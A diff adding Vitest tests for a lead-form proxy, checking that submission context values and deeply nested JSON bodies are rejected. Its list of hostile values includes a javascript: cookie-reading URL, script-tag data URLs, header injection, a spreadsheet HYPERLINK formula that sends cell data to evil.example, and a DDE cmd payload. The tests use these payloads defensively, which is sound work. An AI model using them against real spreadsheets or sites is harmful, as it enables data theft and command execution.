@@ -1,0 +1,112 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { post, SITE_ORIGIN, startHarness, type Harness } from '../testing/harness.ts';
+import { listOutbox } from '../testing/outbox-cli.ts';
+import { TRIAL_FORMS_FILE } from '../testing/trial-forms-file.ts';
+
+// The submission's `context` obeys the text rules and the URL and formula rules before anything
+// reaches Gleantap; a bad value is a bad body (400 invalid_body), since context is not a field.
+
+const CONTEXT_FORMS_FILE = {
+  ...TRIAL_FORMS_FILE,
+  forms: {
+    trial: {
+      ...TRIAL_FORMS_FILE.forms.trial,
+      contextAttributes: { utm_source: 'utm_source', utm_campaign: 'utm_campaign', page_url: 'signup_page', referrer: 'came_from', locale: 'signup_locale' },
+    },
+  },
+};
+
+describe('submission context', () => {
+  let harness: Harness;
+  let smsVersion: string;
+  beforeAll(async () => {
+    harness = await startHarness({ formsFile: CONTEXT_FORMS_FILE });
+    const definition = (await (await fetch(`${harness.proxy.url}/v1/forms/trial`, { headers: { origin: SITE_ORIGIN } })).json()) as {
+      consent: Array<{ kind: string; version: Record<string, string> }>;
+    };
+    smsVersion = definition.consent.find((item) => item.kind === 'sms')?.version['en'] ?? '';
+  });
+  afterAll(() => harness.close());
+
+  const submit = (context: Record<string, unknown>) =>
+    post(harness.proxy.url, { id: crypto.randomUUID(), fields: { first_name: 'Ada', last_name: 'Lovelace', email: 'ada@example.com' }, consent: { sms: { granted: true, version: smsVersion } }, context }, { formId: 'trial' });
+
+  it('refuses hostile values with 400 invalid_body, and nothing reaches Gleantap', async () => {
+    const hostile: Array<Record<string, string>> = [
+      { page_url: 'javascript:alert(document.cookie)' },
+      { referrer: 'data:text/html,<script>alert(1)</script>' },
+      { utm_source: 'news\r\nX-Injected: 1' },
+      { utm_medium: 'a\u0000b' },
+      { utm_campaign: 'evil\u202Etxt.exe' },
+      { utm_term: 'half\uD800' },
+      { utm_content: 'zero\u200Bwidth' },
+      { utm_source: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
+      { utm_campaign: '+1+cmd|\' /C calc\'!A0' },
+      { utm_term: '@SUM(1+1)' },
+      { utm_content: '-2+3' },
+      { locale: 'en'.repeat(1024) },
+      { locale: 'en<script>' },
+    ];
+    for (const context of hostile) {
+      const response = await submit(context);
+      expect(response.status, JSON.stringify(context)).toBe(400);
+      expect(((await response.json()) as { error: { code: string } }).error.code, JSON.stringify(context)).toBe('invalid_body');
+    }
+    expect(await harness.calls()).toEqual([]);
+  });
+
+  it('sends page and referrer URLs without fragment and with only utm_* query parameters, and text values normalised', async () => {
+    const response = await submit({
+      page_url: 'https://www.example-gym.com/trial?email=ada%40example.com&phone=4155552671&utm_source=news&utm_campaign=spring#thanks',
+      referrer: 'https://mail.example/inbox?token=secret#msg-1',
+      utm_source: ' news ',
+      utm_campaign: 'Fe\u0301vrier',
+      locale: 'pt-BR',
+    });
+    expect(response.status).toBe(201);
+    const [contact] = await harness.contacts();
+    expect(contact).toMatchObject({
+      signup_page: 'https://www.example-gym.com/trial?utm_source=news&utm_campaign=spring',
+      sms_consent_page: 'https://www.example-gym.com/trial?utm_source=news&utm_campaign=spring',
+      came_from: 'https://mail.example/inbox',
+      utm_source: 'news',
+      utm_campaign: 'Février',
+      signup_locale: 'pt-BR',
+    });
+  });
+});
+
+describe('deeply nested bodies', () => {
+  let harness: Harness;
+  beforeAll(async () => {
+    harness = await startHarness();
+  });
+  afterAll(() => harness.close());
+
+  const nested = (depth: number) => `${'['.repeat(depth)}"Ada"${']'.repeat(depth)}`;
+  const body = (value: string, hp: string | undefined) =>
+    `{"id":"${crypto.randomUUID()}","fields":{"first_name":${value},"last_name":"Lovelace","email":"ada@example.com"}${hp === undefined ? '' : `,"hp":${JSON.stringify(hp)}`}}`;
+
+  it('are 400 invalid_body whether or not the honeypot is filled, and nothing is stored or sent', async () => {
+    for (const depth of [17, 200, 5_000]) {
+      for (const hp of [undefined, '', 'http://spam.example']) {
+        const response = await post(harness.proxy.url, body(nested(depth), hp));
+        expect(response.status, `depth ${depth}, hp ${String(hp)}`).toBe(400);
+        expect(await response.json()).toMatchObject({ error: { code: 'invalid_body' } });
+      }
+    }
+    expect(await harness.calls()).toEqual([]);
+    expect(harness.logs.filter((line) => /"level":50/.test(line))).toEqual([]);
+    expect(await listOutbox(harness.dataDir)).toEqual([]);
+  });
+
+  it('a shallow wrong value is still a field error, or a dropped lead with the honeypot filled', async () => {
+    const plain = await post(harness.proxy.url, body(nested(3), undefined));
+    expect(plain.status).toBe(400);
+    expect(await plain.json()).toMatchObject({ error: { code: 'invalid_fields', fields: { first_name: 'invalid_type' } } });
+    const honeypot = await post(harness.proxy.url, body(nested(3), 'http://spam.example'));
+    expect(honeypot.status).toBe(202);
+    expect(await harness.calls()).toEqual([]);
+    expect((await listOutbox(harness.dataDir)).map((row) => row.state)).toEqual(['dropped']);
+  });
+});
